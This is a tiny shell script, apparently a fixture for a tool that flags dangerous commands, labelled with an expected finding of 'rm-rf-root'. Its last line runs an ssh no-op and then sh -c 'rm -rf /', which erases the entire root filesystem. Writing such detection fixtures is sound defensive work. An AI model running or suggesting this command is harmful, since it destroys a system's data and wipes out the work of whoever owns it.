#!/bin/sh
#! assess-corpus: expect=rm-rf-root
ssh host true; sh -c 'rm -rf /'
